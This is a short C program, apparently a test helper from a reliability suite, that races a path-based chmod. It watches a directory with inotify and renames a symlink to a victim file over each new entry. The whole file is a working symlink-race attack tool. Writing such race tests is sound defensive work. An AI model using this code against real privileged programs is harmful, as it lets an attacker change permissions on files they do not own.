/* The mode-change race (reliability suite): run as another user, it watches a directory it can write
 * and, the moment a new entry appears there, renames a symbolic link to the victim over it, so that a
 * chmod by path that follows would change the victim. Usage: rename_racer DIR VICTIM SECONDS.
 * Prints "swapped N" when the time is up. */
#include <limits.h>
#include <poll.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/inotify.h>
#include <time.h>
#include <unistd.h>

int main(int argc, char **argv)
{
    if (argc != 4) {
        fprintf(stderr, "usage: rename_racer DIR VICTIM SECONDS\n");
        return 2;
    }
    const char *dir = argv[1], *victim = argv[2];
    time_t end = time(NULL) + atoi(argv[3]);
    int fd = inotify_init1(IN_CLOEXEC);
    if (fd < 0 || inotify_add_watch(fd, dir, IN_CREATE) < 0) {
        perror("inotify");
        return 1;
    }
    char link[PATH_MAX], target[PATH_MAX];
    snprintf(link, sizeof link, "%s/.racer-link", dir);
    char buf[64 * 1024] __attribute__((aligned(__alignof__(struct inotify_event))));
    int swapped = 0;
    while (time(NULL) < end) {
        struct pollfd p = { .fd = fd, .events = POLLIN };
        if (poll(&p, 1, 200) <= 0)
            continue;
        ssize_t n = read(fd, buf, sizeof buf);
        for (char *at = buf; n > 0 && at < buf + n;) {
            struct inotify_event *e = (struct inotify_event *)at;
            at += sizeof *e + e->len;
            if (e->len == 0 || strncmp(e->name, ".racer", 6) == 0)
                continue;
            unlink(link);
            if (symlink(victim, link) != 0)
                continue;
            snprintf(target, sizeof target, "%s/%s", dir, e->name);
            if (rename(link, target) == 0)
                swapped++;
        }
    }
    printf("swapped %d\n", swapped);
    return 0;
}
